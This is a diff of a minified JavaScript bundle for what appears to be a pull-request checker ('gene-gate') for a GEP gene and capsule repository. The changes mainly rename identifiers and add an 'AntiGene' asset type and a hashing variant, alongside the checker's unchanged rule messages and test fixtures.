@@ -1,4 +1,4 @@
-import{createRequire as nn}from"module";var Sl={916:function(n,e){var t;t=!0,e.Io=e.kp=void 0;var s=new Uint32Array(65536),
+import{createRequire as nn}from"module";var Tl={916:function(n,e){var t;t=!0,e.Io=e.kp=void 0;var s=new Uint32Array(65536),
 r=function(l,B){for(var d=l.length,h=B.length,g=1<<d-1,C=-1,y=0,_=d,k=d;k--;)s[l.charCodeAt(k)]|=1<<k;for(k=0;k<h;k++){var E=s[B.
 charCodeAt(k)],x=E|y;E|=(E&C)+C^C,y|=~(E|C),C&=E,y&g&&_++,C&g&&_--,y=y<<1|1,C=C<<1|~(x|y),y&=x}for(k=d;k--;)s[l.charCodeAt(
 k)]=0;return _},i=function(l,B){for(var d=B.length,h=l.length,g=[],C=[],y=Math.ceil(d/32),_=Math.ceil(h/32),k=0;k<y;k++)
@@ -326,90 +326,90 @@ tokens:se};L=r.removePrefix(L,ne),K=L.length;const rt=[],it=[],ct=[];let ie=W,re
 (be=1)=>L[ne.index+be],ye=ne.advance=()=>L[++ne.index]||"",wt=()=>L.slice(ne.index+1),Ne=(be="",lt=0)=>{ne.consumed+=be,
 ne.index+=lt},Re=be=>{ne.output+=be.output!=null?be.output:be.value,Ne(be.value)},We=()=>{let be=1;for(;tt()==="!"&&(tt(
 2)!=="("||tt(3)==="?");)ye(),ne.start++,be++;return be%2===0?!1:(ne.negated=!0,ne.start++,!0)},Ae=be=>{ne[be]++,ct.push(
-be)},we=be=>{ne[be]--,ct.pop()},Ce=be=>{if(ie.type==="globstar"){const lt=ne.braces>0&&(be.type==="comma"||be.type==="br\
+be)},we=be=>{ne[be]--,ct.pop()},ge=be=>{if(ie.type==="globstar"){const lt=ne.braces>0&&(be.type==="comma"||be.type==="br\
 ace"),_e=be.extglob===!0||rt.length&&(be.type==="pipe"||be.type==="paren");be.type!=="slash"&&be.type!=="paren"&&!lt&&!_e&&
 (ne.output=ne.output.slice(0,-ie.output.length),ie.type="star",ie.value="*",ie.output=Se,ne.output+=ie.output)}if(rt.length&&
 be.type!=="paren"&&(rt[rt.length-1].inner+=be.value),(be.value||be.output)&&Re(be),ie&&ie.type==="text"&&be.type==="text"){
 ie.output=(ie.output||ie.value)+be.value,ie.value+=be.value;return}be.prev=ie,se.push(be),ie=be},Pe=(be,lt)=>{const _e={
 ...Te[lt],conditions:1,inner:""};_e.prev=ie,_e.parens=ne.parens,_e.output=ne.output,_e.startIndex=ne.index,_e.tokensIndex=
-se.length;const Qe=(S.capture?"(":"")+_e.open;Ae("parens"),Ce({type:be,value:lt,output:ne.output?"":pe}),Ce({type:"paren",
+se.length;const Qe=(S.capture?"(":"")+_e.open;Ae("parens"),ge({type:be,value:lt,output:ne.output?"":pe}),ge({type:"paren",
 extglob:!0,value:ye(),output:Qe}),rt.push(_e)},Ct=be=>{const lt=L.slice(be.startIndex,ne.index+1),_e=L.slice(be.startIndex+
 2,ne.index),Qe=P(_e,S);if((be.type==="plus"||be.type==="star")&&Qe.risky){const ft=Qe.safeOutput?(be.output?"":pe)+(S.capture?
 `(${Qe.safeOutput})`:Qe.safeOutput):void 0,qe=se[be.tokensIndex];qe.type="text",qe.value=lt,qe.output=ft||r.escapeRegex(
 lt);for(let yt=be.tokensIndex+1;yt<se.length;yt++)se[yt].value="",se[yt].output="",delete se[yt].suffix;ne.output=be.output+
-qe.output,ne.backtrack=!0,Ce({type:"paren",extglob:!0,value:re,output:""}),we("parens");return}let dt=be.close+(S.capture?
+qe.output,ne.backtrack=!0,ge({type:"paren",extglob:!0,value:re,output:""}),we("parens");return}let dt=be.close+(S.capture?
 ")":""),bt;if(be.type==="negate"){let ft=Se;if(be.inner&&be.inner.length>1&&be.inner.includes("/")&&(ft=Ue(S)),(ft!==Se||
 gt()||/^\)+$/.test(wt()))&&(dt=be.close=`)$))${ft}`),be.inner.includes("*")&&(bt=wt())&&/^\.[^\\/.]+$/.test(bt)){const qe=z(
-bt,{...Q,fastpaths:!1}).output;dt=be.close=`)${qe})${ft})`}be.prev.type==="bos"&&(ne.negatedExtglob=!0)}Ce({type:"paren",
+bt,{...Q,fastpaths:!1}).output;dt=be.close=`)${qe})${ft})`}be.prev.type==="bos"&&(ne.negatedExtglob=!0)}ge({type:"paren",
 extglob:!0,value:re,output:dt}),we("parens")};if(S.fastpaths!==!1&&!/(^[*!]|[/()[\]{}"])/.test(L)){let be=!1,lt=L.replace(
 l,(_e,Qe,dt,bt,ft,qe)=>bt==="\\"?(be=!0,_e):bt==="?"?Qe?Qe+bt+(ft?Me.repeat(ft.length):""):qe===0?de+(ft?Me.repeat(ft.length):
 ""):Me.repeat(dt.length):bt==="."?V.repeat(dt.length):bt==="*"?Qe?Qe+bt+(ft?Se:""):Se:Qe?_e:`\\${_e}`);return be===!0&&(S.
 unescape===!0?lt=lt.replace(/\\/g,""):lt=lt.replace(/\\+/g,_e=>_e.length%2===0?"\\\\":_e?"\\":"")),lt===L&&S.contains===
 !0?(ne.output=L,ne):(ne.output=r.wrapOutput(lt,ne,Q),ne)}for(;!gt();){if(re=ye(),re==="\0")continue;if(re==="\\"){const _e=tt();
-if(_e==="/"&&S.bash!==!0||_e==="."||_e===";")continue;if(!_e){re+="\\",Ce({type:"text",value:re});continue}const Qe=/^\\+/.
+if(_e==="/"&&S.bash!==!0||_e==="."||_e===";")continue;if(!_e){re+="\\",ge({type:"text",value:re});continue}const Qe=/^\\+/.
 exec(wt());let dt=0;if(Qe&&Qe[0].length>2&&(dt=Qe[0].length,ne.index+=dt,dt%2!==0&&(re+="\\")),S.unescape===!0?re=ye():re+=
-ye(),ne.brackets===0){Ce({type:"text",value:re});continue}}if(ne.brackets>0&&(re!=="]"||ie.value==="["||ie.value==="[^")){
+ye(),ne.brackets===0){ge({type:"text",value:re});continue}}if(ne.brackets>0&&(re!=="]"||ie.value==="["||ie.value==="[^")){
 if(S.posix!==!1&&re===":"){const _e=ie.value.slice(1);if(_e.includes("[")&&(ie.posix=!0,_e.includes(":"))){const Qe=ie.value.
 lastIndexOf("["),dt=ie.value.slice(0,Qe),bt=ie.value.slice(Qe+2),ft=o[bt];if(ft){ie.value=dt+ft,ne.backtrack=!0,ye(),!W.
 output&&se.indexOf(ie)===1&&(W.output=pe);continue}}}(re==="["&&tt()!==":"||re==="-"&&tt()==="]")&&(re=`\\${re}`),re==="\
 ]"&&(ie.value==="["||ie.value==="[^")&&(re=`\\${re}`),S.posix===!0&&re==="!"&&ie.value==="["&&(re="^"),ie.value+=re,Re({
 value:re});continue}if(ne.quotes===1&&re!=='"'){re=r.escapeRegex(re),ie.value+=re,Re({value:re});continue}if(re==='"'){ne.
-quotes=ne.quotes===1?0:1,S.keepQuotes===!0&&Ce({type:"text",value:re});continue}if(re==="("){Ae("parens"),Ce({type:"pare\
+quotes=ne.quotes===1?0:1,S.keepQuotes===!0&&ge({type:"text",value:re});continue}if(re==="("){Ae("parens"),ge({type:"pare\
 n",value:re});continue}if(re===")"){if(ne.parens===0&&S.strictBrackets===!0)throw new SyntaxError(h("opening","("));const _e=rt[rt.
-length-1];if(_e&&ne.parens===_e.parens+1){Ct(rt.pop());continue}Ce({type:"paren",value:re,output:ne.parens?")":"\\)"}),we(
+length-1];if(_e&&ne.parens===_e.parens+1){Ct(rt.pop());continue}ge({type:"paren",value:re,output:ne.parens?")":"\\)"}),we(
 "parens");continue}if(re==="["){if(S.nobracket===!0||!wt().includes("]")){if(S.nobracket!==!0&&S.strictBrackets===!0)throw new SyntaxError(
-h("closing","]"));re=`\\${re}`}else Ae("brackets");Ce({type:"bracket",value:re});continue}if(re==="]"){if(S.nobracket===
-!0||ie&&ie.type==="bracket"&&ie.value.length===1){Ce({type:"text",value:re,output:`\\${re}`});continue}if(ne.brackets===
-0){if(S.strictBrackets===!0)throw new SyntaxError(h("opening","["));Ce({type:"text",value:re,output:`\\${re}`});continue}
+h("closing","]"));re=`\\${re}`}else Ae("brackets");ge({type:"bracket",value:re});continue}if(re==="]"){if(S.nobracket===
+!0||ie&&ie.type==="bracket"&&ie.value.length===1){ge({type:"text",value:re,output:`\\${re}`});continue}if(ne.brackets===
+0){if(S.strictBrackets===!0)throw new SyntaxError(h("opening","["));ge({type:"text",value:re,output:`\\${re}`});continue}
 we("brackets");const _e=ie.value.slice(1);if(ie.posix!==!0&&_e[0]==="^"&&!_e.includes("/")&&(re=`/${re}`),ie.value+=re,Re(
 {value:re}),S.literalBrackets===!1||r.hasRegexChars(_e))continue;const Qe=r.escapeRegex(ie.value);if(ne.output=ne.output.
 slice(0,-ie.value.length),S.literalBrackets===!0){ne.output+=Qe,ie.value=Qe;continue}ie.value=`(${Be}${Qe}|${ie.value})`,
 ne.output+=ie.value;continue}if(re==="{"&&S.nobrace!==!0){Ae("braces");const _e={type:"brace",value:re,output:"(",outputIndex:ne.
-output.length,tokensIndex:ne.tokens.length};it.push(_e),Ce(_e);continue}if(re==="}"){const _e=it[it.length-1];if(S.nobrace===
-!0||!_e){Ce({type:"text",value:re,output:re});continue}let Qe=")";if(_e.dots===!0){const dt=se.slice(),bt=[];for(let ft=dt.
+output.length,tokensIndex:ne.tokens.length};it.push(_e),ge(_e);continue}if(re==="}"){const _e=it[it.length-1];if(S.nobrace===
+!0||!_e){ge({type:"text",value:re,output:re});continue}let Qe=")";if(_e.dots===!0){const dt=se.slice(),bt=[];for(let ft=dt.
 length-1;ft>=0&&(se.pop(),dt[ft].type!=="brace");ft--)dt[ft].type!=="dots"&&bt.unshift(dt[ft].value);Qe=d(bt,S),ne.backtrack=
 !0}if(_e.comma!==!0&&_e.dots!==!0){const dt=ne.output.slice(0,_e.outputIndex),bt=ne.tokens.slice(_e.tokensIndex);_e.value=
-_e.output="\\{",re=Qe="\\}",ne.output=dt;for(const ft of bt)ne.output+=ft.output||ft.value}Ce({type:"brace",value:re,output:Qe}),
-we("braces"),it.pop();continue}if(re==="|"){rt.length>0&&rt[rt.length-1].conditions++,Ce({type:"text",value:re});continue}
-if(re===","){let _e=re;const Qe=it[it.length-1];Qe&&ct[ct.length-1]==="braces"&&(Qe.comma=!0,_e="|"),Ce({type:"comma",value:re,
+_e.output="\\{",re=Qe="\\}",ne.output=dt;for(const ft of bt)ne.output+=ft.output||ft.value}ge({type:"brace",value:re,output:Qe}),
+we("braces"),it.pop();continue}if(re==="|"){rt.length>0&&rt[rt.length-1].conditions++,ge({type:"text",value:re});continue}
+if(re===","){let _e=re;const Qe=it[it.length-1];Qe&&ct[ct.length-1]==="braces"&&(Qe.comma=!0,_e="|"),ge({type:"comma",value:re,
 output:_e});continue}if(re==="/"){if(ie.type==="dot"&&ne.index===ne.start+1){ne.start=ne.index+1,ne.consumed="",ne.output=
-"",se.pop(),ie=W;continue}Ce({type:"slash",value:re,output:U});continue}if(re==="."){if(ne.braces>0&&ie.type==="dot"){ie.
+"",se.pop(),ie=W;continue}ge({type:"slash",value:re,output:U});continue}if(re==="."){if(ne.braces>0&&ie.type==="dot"){ie.
 value==="."&&(ie.output=V);const _e=it[it.length-1];ie.type="dots",ie.output+=re,ie.value+=re,_e.dots=!0;continue}if(ne.
-braces+ne.parens===0&&ie.type!=="bos"&&ie.type!=="slash"){Ce({type:"text",value:re,output:V});continue}Ce({type:"dot",value:re,
+braces+ne.parens===0&&ie.type!=="bos"&&ie.type!=="slash"){ge({type:"text",value:re,output:V});continue}ge({type:"dot",value:re,
 output:V});continue}if(re==="?"){if(!(ie&&ie.value==="(")&&S.noextglob!==!0&&tt()==="("&&tt(2)!=="?"){Pe("qmark",re);continue}
 if(ie&&ie.type==="paren"){const Qe=tt();let dt=re;(ie.value==="("&&!/[!=<:]/.test(Qe)||Qe==="<"&&!/<([!=]|\w+>)/.test(wt()))&&
-(dt=`\\${re}`),Ce({type:"text",value:re,output:dt});continue}if(S.dot!==!0&&(ie.type==="slash"||ie.type==="bos")){Ce({type:"\
-qmark",value:re,output:fe});continue}Ce({type:"qmark",value:re,output:Me});continue}if(re==="!"){if(S.noextglob!==!0&&tt()===
+(dt=`\\${re}`),ge({type:"text",value:re,output:dt});continue}if(S.dot!==!0&&(ie.type==="slash"||ie.type==="bos")){ge({type:"\
+qmark",value:re,output:fe});continue}ge({type:"qmark",value:re,output:Me});continue}if(re==="!"){if(S.noextglob!==!0&&tt()===
 "("&&(tt(2)!=="?"||!/[!=<:]/.test(tt(3)))){Pe("negate",re);continue}if(S.nonegate!==!0&&ne.index===0){We();continue}}if(re===
-"+"){if(S.noextglob!==!0&&tt()==="("&&tt(2)!=="?"){Pe("plus",re);continue}if(ie&&ie.value==="("||S.regex===!1){Ce({type:"\
-plus",value:re,output:q});continue}if(ie&&(ie.type==="bracket"||ie.type==="paren"||ie.type==="brace")||ne.parens>0){Ce({
-type:"plus",value:re});continue}Ce({type:"plus",value:q});continue}if(re==="@"){if(S.noextglob!==!0&&tt()==="("&&tt(2)!==
-"?"){Ce({type:"at",extglob:!0,value:re,output:""});continue}Ce({type:"text",value:re});continue}if(re!=="*"){(re==="$"||
-re==="^")&&(re=`\\${re}`);const _e=c.exec(wt());_e&&(re+=_e[0],ne.index+=_e[0].length),Ce({type:"text",value:re});continue}
+"+"){if(S.noextglob!==!0&&tt()==="("&&tt(2)!=="?"){Pe("plus",re);continue}if(ie&&ie.value==="("||S.regex===!1){ge({type:"\
+plus",value:re,output:q});continue}if(ie&&(ie.type==="bracket"||ie.type==="paren"||ie.type==="brace")||ne.parens>0){ge({
+type:"plus",value:re});continue}ge({type:"plus",value:q});continue}if(re==="@"){if(S.noextglob!==!0&&tt()==="("&&tt(2)!==
+"?"){ge({type:"at",extglob:!0,value:re,output:""});continue}ge({type:"text",value:re});continue}if(re!=="*"){(re==="$"||
+re==="^")&&(re=`\\${re}`);const _e=c.exec(wt());_e&&(re+=_e[0],ne.index+=_e[0].length),ge({type:"text",value:re});continue}
 if(ie&&(ie.type==="globstar"||ie.star===!0)){ie.type="star",ie.star=!0,ie.value+=re,ie.output=Se,ne.backtrack=!0,ne.globstar=
 !0,Ne(re);continue}let be=wt();if(S.noextglob!==!0&&/^\([^?]/.test(be)){Pe("star",re);continue}if(ie.type==="star"){if(S.
 noglobstar===!0){Ne(re);continue}const _e=ie.prev,Qe=_e.prev,dt=_e.type==="slash"||_e.type==="bos",bt=Qe&&(Qe.type==="st\
-ar"||Qe.type==="globstar");if(S.bash===!0&&(!dt||be[0]&&be[0]!=="/")){Ce({type:"star",value:re,output:""});continue}const ft=ne.
+ar"||Qe.type==="globstar");if(S.bash===!0&&(!dt||be[0]&&be[0]!=="/")){ge({type:"star",value:re,output:""});continue}const ft=ne.
 braces>0&&(_e.type==="comma"||_e.type==="brace"),qe=rt.length&&(_e.type==="pipe"||_e.type==="paren");if(!dt&&_e.type!=="\
-paren"&&!ft&&!qe){Ce({type:"star",value:re,output:""});continue}for(;be.slice(0,3)==="/**";){const Jt=L[ne.index+4];if(Jt&&
+paren"&&!ft&&!qe){ge({type:"star",value:re,output:""});continue}for(;be.slice(0,3)==="/**";){const Jt=L[ne.index+4];if(Jt&&
 Jt!=="/")break;be=be.slice(3),Ne("/**",3)}const yt=gt()||ne.parens>0&&be===")".repeat(ne.parens)&&!rt.some(Jt=>Jt.type===
 "negate");if(_e.type==="bos"&&gt()){ie.type="globstar",ie.value+=re,ie.output=Ue(S),ne.output=ie.output,ne.globstar=!0,Ne(
 re);continue}if(_e.type==="slash"&&_e.prev.type!=="bos"&&!bt&&yt){ne.output=ne.output.slice(0,-(_e.output+ie.output).length),
 _e.output=`(?:${_e.output}`,ie.type="globstar",ie.output=Ue(S)+(S.strictSlashes?")":"|$)"),ie.value+=re,ne.globstar=!0,ne.
 output+=_e.output+ie.output,Ne(re);continue}if(_e.type==="slash"&&_e.prev.type!=="bos"&&be[0]==="/"){const Jt=be[1]!==void 0?
 "|$":"";ne.output=ne.output.slice(0,-(_e.output+ie.output).length),_e.output=`(?:${_e.output}`,ie.type="globstar",ie.output=
-`${Ue(S)}${U}|${U}${Jt})`,ie.value+=re,ne.output+=_e.output+ie.output,ne.globstar=!0,Ne(re+ye()),Ce({type:"slash",value:"\
+`${Ue(S)}${U}|${U}${Jt})`,ie.value+=re,ne.output+=_e.output+ie.output,ne.globstar=!0,Ne(re+ye()),ge({type:"slash",value:"\
 /",output:""});continue}if(_e.type==="bos"&&be[0]==="/"){ie.type="globstar",ie.value+=re,ie.output=`(?:^|${U}|${Ue(S)}${U}\
-)`,ne.output=ie.output,ne.globstar=!0,Ne(re+ye()),Ce({type:"slash",value:"/",output:""});continue}ne.output=ne.output.slice(
+)`,ne.output=ie.output,ne.globstar=!0,Ne(re+ye()),ge({type:"slash",value:"/",output:""});continue}ne.output=ne.output.slice(
 0,-ie.output.length),ie.type="globstar",ie.output=Ue(S),ie.value+=re,ne.output+=ie.output,ne.globstar=!0,Ne(re);continue}
 const lt={type:"star",value:re,output:Se};if(S.bash===!0){lt.output=".*?",(ie.type==="bos"||ie.type==="slash")&&(lt.output=
-Ge+lt.output),Ce(lt);continue}if(ie&&(ie.type==="bracket"||ie.type==="paren")&&S.regex===!0){lt.output=re,Ce(lt);continue}
+Ge+lt.output),ge(lt);continue}if(ie&&(ie.type==="bracket"||ie.type==="paren")&&S.regex===!0){lt.output=re,ge(lt);continue}
 (ne.index===ne.start||ie.type==="slash"||ie.type==="dot")&&(ie.type==="dot"?(ne.output+=je,ie.output+=je):S.dot===!0?(ne.
-output+=Fe,ie.output+=Fe):(ne.output+=Ge,ie.output+=Ge),tt()!=="*"&&(ne.output+=pe,ie.output+=pe)),Ce(lt)}for(;ne.brackets>
+output+=Fe,ie.output+=Fe):(ne.output+=Ge,ie.output+=Ge),tt()!=="*"&&(ne.output+=pe,ie.output+=pe)),ge(lt)}for(;ne.brackets>
 0;){if(S.strictBrackets===!0)throw new SyntaxError(h("closing","]"));ne.output=r.escapeLast(ne.output,"["),we("brackets")}
 for(;ne.parens>0;){if(S.strictBrackets===!0)throw new SyntaxError(h("closing",")"));ne.output=r.escapeLast(ne.output,"("),
 we("parens")}for(;ne.braces>0;){if(S.strictBrackets===!0)throw new SyntaxError(h("closing","}"));ne.output=r.escapeLast(
-ne.output,"{"),we("braces")}if(S.strictSlashes!==!0&&(ie.type==="star"||ie.type==="bracket")&&Ce({type:"maybe_slash",value:"",
+ne.output,"{"),we("braces")}if(S.strictSlashes!==!0&&(ie.type==="star"||ie.type==="bracket")&&ge({type:"maybe_slash",value:"",
 output:`${U}?`}),ne.backtrack===!0){ne.output="";for(const be of ne.tokens)ne.output+=be.output!=null?be.output:be.value,
 be.suffix&&(ne.output+=be.suffix)}return ne};z.fastpaths=(L,Q)=>{const S={...Q},Z=typeof S.maxLength=="number"?Math.min(
 i,S.maxLength):i,K=L.length;if(K>Z)throw new SyntaxError(`Input length: ${K}, exceeds maximum allowed length: ${Z}`);L=B[L]||
@@ -502,15 +502,15 @@ full","reference"]),y=l.extend({counting:C.describe("Which files the policy coun
 Whr().positive(),hard_cap_lines:s.Whr().positive(),renamed_files:s.Whr().nonnegative().exactOptional().describe("Files t\
 hat the pull request shows as one, and that have two names here."),changed_files:s.YOg(g).exactOptional().describe("The \
 files with the most lines, at most 100; both names of a rename.")})},108:function(n,e,t){t.d(e,{Dd:()=>s,J:()=>d,PV:()=>r,
-l$:()=>o,oC:()=>l,v3:()=>i});const s=["Gene","Capsule","EvolutionEvent","ValidationReport","Mutation"],r=["within_limit",
-"approaching_limit","exceeded","critical_overrun","hard_cap_breach"],i=["standard","strong","very_strong"],o=["none","pr\
-ocess_group","namespaces"],c=null,l=["error","warning","notice"],d=[...["evolver","validator"],"curated","workspace"]},581:function(n,e,t){
-t.d(e,{A3:()=>B,CT:()=>l,Ot:()=>c,Vt:()=>o});var s=t(56),r=t(561);const i="Write a script by hand and run it with `node`\
-.",o="vacuous-code",c={cannotFail:()=>({id:o,message:"The command cannot fail: it only prints, or does nothing.",remedy:"\
-Write a script that fails if the gene breaks something, and run it with `node`."}),checksNothing:()=>({id:"code-checks-n\
-othing",message:"The code loads nothing of the repository and starts nothing, so it checks nothing.",remedy:"Write a scr\
-ipt that fails if the gene breaks something, and run it with `node`."}),codeNotMoved:d=>({id:"code-not-moved",message:`T\
-he code cannot be moved into a script: ${d}.`,title:"Code that cannot be moved into a script.",remedy:i}),dangerous:d=>({
+l$:()=>o,oC:()=>l,v3:()=>i});const s=["Gene","Capsule","EvolutionEvent","ValidationReport","Mutation","AntiGene"],r=["wi\
+thin_limit","approaching_limit","exceeded","critical_overrun","hard_cap_breach"],i=["standard","strong","very_strong"],o=[
+"none","process_group","namespaces"],c=null,l=["error","warning","notice"],d=[...["evolver","validator"],"curated","work\
+space"]},581:function(n,e,t){t.d(e,{A3:()=>B,CT:()=>l,Ot:()=>c,Vt:()=>o});var s=t(56),r=t(561);const i="Write a script b\
+y hand and run it with `node`.",o="vacuous-code",c={cannotFail:()=>({id:o,message:"The command cannot fail: it only prin\
+ts, or does nothing.",remedy:"Write a script that fails if the gene breaks something, and run it with `node`."}),checksNothing:()=>({
+id:"code-checks-nothing",message:"The code loads nothing of the repository and starts nothing, so it checks nothing.",remedy:"\
+Write a script that fails if the gene breaks something, and run it with `node`."}),codeNotMoved:d=>({id:"code-not-moved",
+message:`The code cannot be moved into a script: ${d}.`,title:"Code that cannot be moved into a script.",remedy:i}),dangerous:d=>({
 id:"dangerous-command",message:`The command ${d}.`,remedy:"Remove the command. A person decides whether the gene needs i\
 t."}),noPlace:d=>({id:"no-place-for-script",message:`Scripts cannot be added to \`${d}\`: the path is not an ordinary dir\
 ectory.`,remedy:`Make \`${d}\` an ordinary directory.`}),changesDirectory:()=>({id:"changes-directory",message:"`cd` has\
@@ -524,7 +524,7 @@ Let the engine append a correct event."}),unsureText:()=>({id:"file-in-doubt",me
 ous, so nothing in it is rewritten.",remedy:"Fix by hand what `gene-gate audit` reports about the file."})},l=new Set([c.
 cannotFail().id,c.checksNothing().id]);function B(d){return{id:d.rule,title:(0,s.Y)(d.rule)?.title,...(0,r.q0)(d)}}},56:function(n,e,t){
 t.d(e,{Y:()=>Bi});var s=t(442);function r(b){return O=>({severity:b,...O})}const i=r("error"),o=r("warning"),c=r("notice");
-function l(b,O,Y,me){const Le=Object.entries(Y).map(([tn,un])=>[tn,{id:tn,layer:b,...me&&{profile:me},harm:un.severity===
+function l(b,O,Y,me){const Le=Object.entries(Y).map(([Wt,un])=>[Wt,{id:Wt,layer:b,...me&&{profile:me},harm:un.severity===
 "error"?O:"bookkeeping",...un,message:B(un.message),remedy:B(un.remedy)}]);return Object.fromEntries(Le)}function B(b){return typeof b!=
 "string"?b:O=>b.replace(/\{(\w+)\}/g,(Y,me)=>{const Le=O[me]??Y;return typeof Le=="object"?(0,s.p)(Le):String(Le)})}function d({
 severity:b,layer:O,ignorable:Y}){return O!=="policy"&&(b!=="error"||Y===!0)}function h(b){return b.group!==void 0||d(b)}
@@ -568,9 +568,9 @@ nt may do on the machine of everybody who opens the branch, and where its reques
  is allowed protects only while it is there. A change that gives more trust, and a key whose meaning is not known, is a \
 warning; one that gives less trust is a notice. Values of keys that are not known are not shown.",wrong:{head:{[g]:'{ "p\
 ermissions": { "allow": ["Bash(*)"] } }'}},right:{head:{[g]:'{ "model": "opus" }'}},configure:k,message:({tool:b,event:O,
-command:Y,state:me,change:Le,isMember:tn})=>{const[un,zs]=[`\`${O}\` of ${b}`,`\`${Y}\``];if(me==="")return`${un} is ${zs}\
-: ${D[Le]}.`;const Us=me==="removed",[fi,hi]=Us?["removes","from"]:["adds","to"];return`This change ${tn?`${fi} ${zs} ${hi}\
- ${un}`:Us||Y===""?`${Us?"removes":"changes"} ${un}`:`sets ${un} to ${zs}`}: ${D[Le]??"its meaning is not known"}.`},remedy:"\
+command:Y,state:me,change:Le,isMember:Wt})=>{const[un,Us]=[`\`${O}\` of ${b}`,`\`${Y}\``];if(me==="")return`${un} is ${Us}\
+: ${D[Le]}.`;const Js=me==="removed",[fi,hi]=Js?["removes","from"]:["adds","to"];return`This change ${Wt?`${fi} ${Us} ${hi}\
+ ${un}`:Js||Y===""?`${Js?"removes":"changes"} ${un}`:`sets ${un} to ${Us}`}: ${D[Le]??"its meaning is not known"}.`},remedy:"\
 Read what it allows before anyone opens this branch, or restore it."}),"agent-file-unread":o({failsByLevel:!0,...E,harm:"\
 broken",title:"File of agents or editors is not read",why:"The commands of a file can only be shown if its syntax is rig\
 ht (JSON can have comments and trailing commas) and if it is a file of people, not of 1,000 commands or 1 MB. Tools diff\
@@ -587,20 +587,21 @@ affected_by` covers neither these files nor the scripts behind them.",wrong:{...
 ges the commands that run automatically (${O.join(", ")}).`,remedy:({path:b,approval:O})=>O==="given"?"No action is requ\
 ired: the change is approved.":O?`Restore \`${b}\` unless this is intended.`:`Restore \`${b}\`, or ask a person with writ\
 e access to approve the change.`})}),Z={content:"the current protocol",hub:"the hub, without `outcome.notes` and `outcom\
-e.details`",engine:"the reference engine, with `null` for fields without a value, which it does not write",created:"the \
-reference engine, before it added what it learned to the gene",unprefixed:"the current protocol, without `sha256:` in sm\
-all letters before 64 digits"},K=Object.keys(Z),W="assets/gep/genes.json",se="assets/gep/capsules.json",Be="assets/gep/e\
-vents.jsonl",ke={own:"<hash of this content>",hub:"<hash of this content without the notes>"},Te="<hash of something els\
-e>";function V(b={}){return{type:"Gene",id:"gene_a",...b}}function q(b={}){return{type:"Capsule",id:"capsule_1",...b}}function U(b={}){
-return{type:"EvolutionEvent",id:"evt_1",...b}}function pe(b={}){return{type:"ValidationReport",id:"vr_1",...b}}function te(...b){
-return{head:{[W]:b.map(V)}}}function Ie(...b){return{head:{[Be]:b.map(U)}}}const je=`${JSON.stringify({genes:[{type:"Gen\
-e",id:"gene_gep_optimize_prompt_and_assets",category:"optimize",signals_match:["protocol","gep","prompt","audit","reusab\
-le"],preconditions:["need stricter, auditable evolution protocol outputs"],strategy:["Extract signals and determine sele\
-ction rationale via Selector JSON","Prefer reusing existing Gene/Capsule; only create if no match exists","Refactor prom\
-pt assembly to embed assets (genes, capsules, parent event)","Reduce noise and ambiguity; enforce strict output schema",
-"Validate by running node index.js run and ensuring no runtime errors","Solidify: record EvolutionEvent, update Gene def\
-initions, create Capsule on success"],constraints:{max_files:20,forbidden_paths:[".git","node_modules"]},validation:["no\
-de index.js run"]}]},null,2)}
+e.details`",engine:"the reference engine, with `null` for fields without a value, which it does not write",local:"the re\
+ference engine 2, without the local annotations of a Gene",created:"the reference engine, before it added what it learne\
+d to the gene",unprefixed:"the current protocol, without `sha256:` in small letters before 64 digits"},K=Object.keys(Z),
+W="assets/gep/genes.json",se="assets/gep/capsules.json",Be="assets/gep/events.jsonl",ke={own:"<hash of this content>",hub:"\
+<hash of this content without the notes>"},Te="<hash of something else>";function V(b={}){return{type:"Gene",id:"gene_a",
+...b}}function q(b={}){return{type:"Capsule",id:"capsule_1",...b}}function U(b={}){return{type:"EvolutionEvent",id:"evt_\
+1",...b}}function pe(b={}){return{type:"ValidationReport",id:"vr_1",...b}}function te(...b){return{head:{[W]:b.map(V)}}}
+function Ie(...b){return{head:{[Be]:b.map(U)}}}const je=`${JSON.stringify({genes:[{type:"Gene",id:"gene_gep_optimize_pro\
+mpt_and_assets",category:"optimize",signals_match:["protocol","gep","prompt","audit","reusable"],preconditions:["need st\
+ricter, auditable evolution protocol outputs"],strategy:["Extract signals and determine selection rationale via Selector\
+ JSON","Prefer reusing existing Gene/Capsule; only create if no match exists","Refactor prompt assembly to embed assets \
+(genes, capsules, parent event)","Reduce noise and ambiguity; enforce strict output schema","Validate by running node in\
+dex.js run and ensuring no runtime errors","Solidify: record EvolutionEvent, update Gene definitions, create Capsule on \
+success"],constraints:{max_files:20,forbidden_paths:[".git","node_modules"]},validation:["node index.js run"]}]},null,2)}\
+
 `;function Fe({type:b,id:O,others:Y=0},me){if(Y===0)return`The ${b} \`${O}\` has no \`${me}\`.`;const Le=Y===1?"another \
 asset":`${Y} other assets`;return`The ${b} \`${O}\` and ${Le} in its file have no \`${me}\`.`}function Me(b){return te({
 constraints:{max_files:b,forbidden_paths:[".git"]}})}function fe(b){return{base:te({id:"gene_retry"}).head,...te({id:"ge\
@@ -769,7 +770,7 @@ success",score:.9}},Re={base:{"README.md":`# Agent
 `,"src/index.js":`work();
 `}},We={submodule:"1d0c4fe2b6a0d6d9a51b2c4a7f1ed0f5bb1f3b64"};function Ae(b){const O={max_files:5,forbidden_paths:["src/\
 core"]},Y=V({constraints:O,summary:"Edited."});return{base:{[W]:[V({constraints:O})]},head:{[W]:[Y],[b]:`work();
-`}}}function we(b){return b===1?"1 file":`${b} files`}function Ce(b){return b===1?"1 line":`${b} lines`}function Pe({path:b,
+`}}}function we(b){return b===1?"1 file":`${b} files`}function ge(b){return b===1?"1 line":`${b} lines`}function Pe({path:b,
 via:O,more:Y=0}){const me=O===""?"":`, which resolves to \`${O}\``;return`The change touches \`${b}\`${me}${Y===0?"":` a\
 nd ${Y} more ${Y===1?"path":"paths"} there`}`}function Ct({likewise:b,more:O}){return b.length===0?"":`; likewise ${(0,s.
 p)(b)}${O===0?"":` and ${O} more`}`}function be({gene:b,declared:O}){return O?`the gene \`${b}\``:`genes without \`max_fi\
@@ -856,31 +857,32 @@ ecords that some were applied is only warned about. Only the policy on the base 
 `}},right:{head:{...ye,"src/<1-59>.js":`work();
 `},also:{"constraints-malformed":"A lower limit would be approached."}},configure:`blast_radius:
   hard_cap_files: 60
-  hard_cap_lines: 20000`,message:({files:b,lines:O,capFiles:Y,capLines:me,genes:Le})=>`The change ${Le>1?`with ${Le} gen\
-es `:""}touches ${[...O>me&&b<=Y?[]:[`${we(b)}, but the hard cap is ${Y}`],...O>me?[`${Ce(O)}, but the hard cap is ${me}`]:
